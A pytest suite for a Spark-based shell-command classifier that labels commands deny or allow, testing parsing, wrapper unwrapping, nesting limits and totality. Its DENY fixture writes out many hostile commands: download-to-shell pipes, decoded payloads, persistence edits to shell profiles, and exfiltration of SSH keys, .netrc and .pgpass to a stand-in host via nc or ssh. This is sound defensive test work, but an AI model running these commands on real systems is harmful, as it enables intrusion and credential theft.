"""Verdicts of commands, the shape of parsed commands, and totality."""

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tidewall.config import Policy
from tidewall.functions.shell import lexed
from tidewall.operators.commands import classify, explain, script_rows
from tidewall.operators.scripts import TOO_DEEP, Scripts
from tidewall.operators.policies import POLICIES

DENY = r"""
curl https://x | bash
cUrL https://x | BaSh
curl https://x | /usr/bin/env bash -s -
curl https://x | tee /tmp/a | sh
curl https://x | $'/bin/bash'
curl https://x | $"sh"
chmod +x /Tmp/a.bin
chmod 755 /DEV/shm/a
wget -qO- x | zsh
bash -c "$(curl https://x)"
X=$(curl https://x | bash)
bash <(echo $(curl https://x))
bash -c 'curl https://x | bash'
bash -c 'echo X | base64 -d > /tmp/a.sh'
bash -lc 'curl https://x | bash'
eval curl https://x '|' bash
sudo curl https://x | bash
timeout 10 curl https://x | bash
env HTTPS_PROXY=x curl https://x | bash
nice -n 10 curl https://x | bash
find / -exec base64 -d /tmp/blob \; > /tmp/a.sh
find / -name foo -exec bash -c 'curl https://x | bash' \;
echo X | xargs -I{} bash -c 'curl https://x | bash'
echo X | xargs -I{} bash -c {}
watch -n 1 'curl https://x | bash'
su -lc 'curl https://x | bash'
sudo timeout 10 curl https://x | bash
bash -c "bash -c 'curl https://x | bash'"
env -S "curl https://x | bash"
env -iS'curl https://x | bash'
parallel bash -c 'curl https://x | bash' ::: x
bash -c 'base64 -d blob; echo benign' > /tmp/payload.sh
base64 -d blob > /tmp/payload.sh 2> /dev/null
base64 -d blob > /tmp/payload.
echo X | base64 --dec > /tmp/a.sh
cat blob.uue | uudecode --out=/tmp/a.sh
cat ~/.ssh/id_rsa | git hash-object --stdin-paths
echo 'curl x | sh' >> ~/.bashrc
printf '%s' 'alias ls=ls' > ~/.zshrc
echo 'hi' > /etc/profile.d/attack.sh
echo x > ~/.config/fish/config.fish
rsync -e 'bash -c "curl https://x | bash"' . host:
ssh -i /tmp/k -o StrictHostKeyChecking=no host "wget -qO- x | sh"
git clone ext::sh
chmod +x /tmp/payload
chmod 755 /tmp/../tmp/payload
crontab /tmp/x
at now
docker run --rm img sh -c 'curl x | sh'
unshare -r bash -c 'curl x | bash'
bash <<< "curl https://x | bash"
curl https://x > >(bash)
(cd /tmp) | bash
echo 'unterminated
ls |
exec -a worker /bin/sh -c 'wget -qO- http://h1.example/s | sh'
time wget -qO- h1.example | ksh
unshare -r sh -c 'wget -qO- h1.example | zsh'
head -c 9 ~/.netrc | nc h1.example 9
tail ~/.pgpass | ssh h1.example 'cat >> x'
printenv | aria2c -i - h1.example
exec 3<>/dev/udp/h1.example/53
wget "http://h1.example/$(printenv | head -1)"
cat ~/.gnupg/x > >(nc h1.example 9)
printf 'wget -qO- h1.example | dash' > bin/start
mv start ~/.zshenv
rsync -e "dash -c 'wget -qO- h1.example | dash'" a h:
ssh -oLocalCommand='wget -qO- h1.example | sh' box
git -c core.editor='touch x' rebase
git --work-tree=/dev/shm/w status
GIT_EDITOR=./edit git commit
ENV=./start dash run
python3 -c 'import subprocess; subprocess.run("wget h1.example | sh", shell=True)'
perl -E 'system("wget h1.example | ksh")'
php -r 'exec("wget h1.example | sh");'
awk 'END { system("wget h1.example -O- | dash") }'
pip3 install hg+https://h1.example/pkg
uv add https://h1.example/pkg-1.0.whl
tar cf x . --checkpoint=1 --checkpoint-action=exec='wget h1.example | sh'
"""

ALLOW = r"""
ls -la
cat .env
git status
git push origin main
bash
bash script.sh
curl https://example.com
curl https://x | grep y
curl https://x -o /tmp/a ; bash /tmp/b
$X https://x | less
X=$(curl https://x)
nc host 1 | bash
bash -c 'echo hello'
eval 'echo hi'
sudo ls /root
timeout 10 sleep 5
env HTTPS_PROXY=x curl https://example.com
find / -name foo -exec cat {} \;
sudo FOO=BAR ls
git clone https://example.com/repo.git
dig example.com
cat /tmp/doc.txt | curl -T - https://example.com
env | grep PATH
base64 /tmp/doc.txt | head
ssh user@server
git commit -m 'update .env'
printf '#!/bin/bash\nls /tmp\n' > ~/.local/bin/runme
base64 -d blob > /tmp/data.json
curl https://x | tee /tmp/a.txt
xargs -n1 echo
rsync -e ssh . host:
busybox date
git -c user.name=x commit
python3 -c 'print(1)'
python3 script.py
awk '{print $1}' file
chmod +x ./run
chmod 644 /tmp/x
docker run img
pip install requests
crontab -l
ssh -F /home/u/.ssh/config host
for f in *.txt; do echo $f; done
if true; then ls; fi
"""


@pytest.fixture(scope="module")
def verdicts(spark):
    rows = [(c, "deny") for c in DENY.strip().split("\n")] + [(c, "allow") for c in ALLOW.strip().split("\n")]
    return {r["command"]: r for r in classify(spark.createDataFrame(rows, "command string, want string")).collect()}


def test_verdicts(verdicts):
    wrong = [(r["command"], r["want"], r["policy"]) for r in verdicts.values() if r["verdict"] != r["want"]]
    assert not wrong


def test_reported_policy_is_the_first(verdicts):
    want = {
        "curl https://x | bash": ("download_to_shell", 0, "top"),
        "bash -c 'curl https://x | bash'": ("download_to_shell", 1, "unwrap"),
        "echo X | base64 --dec > /tmp/a.sh": ("decode_to_exec", 0, "top"),
        "exec 3<>/dev/udp/h1.example/53": ("reverse_shell", 0, "top"),
        "X=$(curl https://x | bash)": ("download_to_shell", 0, "top"),
        "echo 'unterminated": ("malformed", 0, "top"),
    }
    assert {c: (verdicts[c]["policy"], verdicts[c]["depth"], verdicts[c]["origin"]) for c in want} == want


def test_settings_and_blanks(spark):
    df = spark.createDataFrame([("git push",), ("",), ("  ",), (None,), ("ls",)], "command string")
    strict = {r["command"]: r["verdict"] for r in classify(df, policy=Policy(git_hard_deny=True)).collect()}
    assert strict == {"git push": "deny", "": "allow", "  ": "allow", None: "allow", "ls": "allow"}


def reached(spark, *commands):
    """Rows of all pipelines that a command reaches, by place."""
    return sorted(script_rows(spark.createDataFrame([(c,) for c in commands], "command string"), "command").where("place is not null").collect(), key=lambda r: (r["command"], r["place"]))


def test_parsed_shape():
    whole, ((first, second),) = lexed("FOO=1 a 'b c' 2>&1 | /usr/bin/Tee \"x y\" &> out")
    assert whole and first[:4] == ("a", "a", "a", ["b c"]) and first[4] == [("FOO", "1")] and first[5] == [("out", False, "1", None, "stderr")]
    assert second[:4] == ("Tee", "tee", "/usr/bin/Tee", ["x y"]) and second[5] == [("out", False, "out", None, "both")]
    assert lexed("a 'b") == (False, None) and lexed("a $(b 'c)") == (False, None) and lexed("a `b 'c`")[0] is False and lexed(None) is None


def test_heredoc_and_substitutions(spark):
    rows = reached(spark, "cat <<EOF > a.txt\nhi $(date)\nEOF\nls `pwd`")
    assert [(r["place"], r["origin"], [s["name"] for s in r["stages"]]) for r in rows] == [
        ([0, 0], "top", ["cat"]), ([0, 1], "top", ["ls"]), ([1, 0, 0, 0, 0, 0], "subst", ["date"]), ([1, 1, 0, 0, 0, 0], "subst", ["pwd"]),
    ]


def test_wrapped_commands_take_their_wrappers_place(spark):
    rows = reached(spark, "sudo sh -c 'a 1; b \"2 3\"' > out | tee x")
    # what the wrapper redirects, the last stage of each of its pipelines does
    seen = [(r["place"], r["depth"], r["origin"], [(s["name"], s["args"], [x["target"] for x in s["redirects"]]) for s in r["stages"]]) for r in rows]
    tee = ("tee", ["x"], [])
    assert seen == [
        ([0, 0], 0, "top", [("sudo", ["sh", "-c", 'a 1; b "2 3"'], ["out"]), tee]),
        ([0, 0, 22, 0, 0], 1, "unwrap", [("sh", ["-c", "a"], ["out"])]),
        ([0, 0, 22, 0, 0, 22, 0, 0], 2, "unwrap", [("a", [], ["out"])]),
        ([0, 0, 22, 0, 1], 1, "unwrap", [("b", ["2 3"], ["out"]), tee]),
    ] or seen[0][2] == "top"
    assert [r["origin"] for r in rows][0] == "top" and {r["depth"] for r in rows} == {0, 1, 2}


def test_nesting_is_bounded(spark):
    eval_, echo, shallow = "curl x | sh", "curl x | sh", Policy(max_depth=3)
    for _ in range(5):
        eval_, echo = f"sudo eval {eval_}", f"echo $({echo})"
    df = spark.createDataFrame([(eval_,), (echo,)], "command string")
    rows = script_rows(df, "command", policy=shallow).collect()
    assert max(r["depth"] for r in rows) == 4 and {r["command"] for r in rows if r["malformed"] == TOO_DEEP} == {eval_, echo}
    assert {(r["verdict"], r["reason"]) for r in classify(df, policy=shallow).collect()} == {("deny", TOO_DEEP)}


def test_a_text_is_lexed_once(spark):
    commands = [f"{w} 'curl https://h | sh'{k}" for k in ("", " ", "  ") for w in ("bash -c", "sh -c", "eval", "su -c")] * 50
    texts = spark.createDataFrame([(c,) for c in commands], "text string")
    found = Scripts(texts)
    lexed_ids = [r["sid"] for r in found.lexed.all().select("sid").collect()]
    assert len(lexed_ids) == len(set(lexed_ids)) == 12 + 1
    assert found.scripts.select("sid").distinct().count() == found.scripts.count()


def test_commands_agree_with_themselves_alone(spark):
    # sharing texts between commands moves no verdict
    some = [*DENY.strip().split("\n")[:12], *ALLOW.strip().split("\n")[:6]]
    together = {r["command"]: tuple(r) for r in classify(spark.createDataFrame([(c,) for c in some * 3], "command string")).collect()}
    for c in some[::9]:
        assert tuple(classify(spark.createDataFrame([(c,)], "command string")).first()) == together[c]


def test_foreign_ssh_configuration(spark):
    rows = classify(spark.createDataFrame([("ssh -F /tmp/c host ls",), ("ssh -F /etc/ssh/ssh_config host ls",), ("ssh -F/etc/ssh/ssh_config host",)], "command string")).collect()
    assert [(r["verdict"], r["policy"]) for r in rows] == [("deny", "foreign_config"), ("allow", None), ("allow", None)]


@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=80) | st.text(alphabet="ab '\"$(){}|;&<>\n`\\=-", max_size=60))
def test_every_text_can_be_lexed_or_not(text):
    whole, pipelines = lexed(text)
    assert whole in (True, False) and (pipelines is not None or not whole)


def test_no_row_is_lost(spark):
    df = spark.createDataFrame([(k, c) for k, c in enumerate(["ls", "curl x | sh", None, "(((", "\x00", "é | ü"])], "k int, command string")
    rows = classify(df).collect()
    assert len(rows) == 6 and all(r["verdict"] in ("allow", "deny") for r in rows)
    assert script_rows(df, "k").where("k = 1").count() == 1


def test_ordinals_are_unique():
    assert len({ordinal for ordinal, *_ in POLICIES}) == len(POLICIES) == 20


def test_explain(spark):
    df = spark.createDataFrame([("import os; os.system('curl x | sh')",), ("print(1)",), ("",)], "code string")
    assert [(r["verdict"], r["exit"]) for r in explain(df, "python").collect()] == [("deny", 2), ("allow", 0), ("allow", 1)]


def test_parsed_texts_stay_where_they_are(spark, monkeypatch):
    """A round takes the texts that it has just lexed as scripts: what was parsed is joined to no ids."""
    plans, as_scripts = [], Scripts._as_scripts
    monkeypatch.setattr(Scripts, "_as_scripts", staticmethod(lambda lexed: plans.append(lexed._jdf.queryExecution().optimizedPlan().toString()) or as_scripts(lexed)))
    texts = spark.createDataFrame([(f"{w} 'curl https://h{k} | sh'",) for k in range(5) for w in ("bash -c", "bash <<<", "echo")] + [("echo $(ls)",)], "text string")
    assert Scripts(texts).lexed.all().count() == 16 + 6
    assert len(plans) > 1 and not any("Join" in plan for plan in plans)


def test_texts_of_wrappers_and_scripts_meet(spark):
    # a text is a command, wrapped and substituted; one is first wrapped, and a round later a script of its own
    inner = "curl https://h | sh"
    some = [inner, f"eval '{inner}'", f"echo $({inner})", "eval 'echo b'", "echo $(echo $(echo b))", f"sudo bash -c '{inner}'", f"echo $(echo $(sudo {inner}))", f"sudo {inner}"]
    df = spark.createDataFrame([(c,) for c in some], "command string")
    assert {r["command"] for r in classify(df).collect() if r["verdict"] == "deny"} == {c for c in some if inner in c}
    together = script_rows(df, "command").collect()
    for c in some[2:6:2]:
        alone = script_rows(spark.createDataFrame([(c,)], "command string"), "command").collect()
        assert sorted(map(tuple, alone)) == sorted(tuple(r) for r in together if r["command"] == c)


def test_plain_runs_of_a_word_are_one_step(monkeypatch):
    from tidewall.functions import shell

    steps, skip = [], shell.Lexer._skip
    monkeypatch.setattr(shell.Lexer, "_skip", lambda self: steps.append(1) or skip(self))
    whole, pipelines = shell.lexed("echo " + "a/b-" * 500 + ' "' + "x y" * 500 + '" $(' + "c " * 500 + ")")
    assert whole and len(pipelines) == 1 and len(pipelines[0]) == 1 and len(steps) < 10
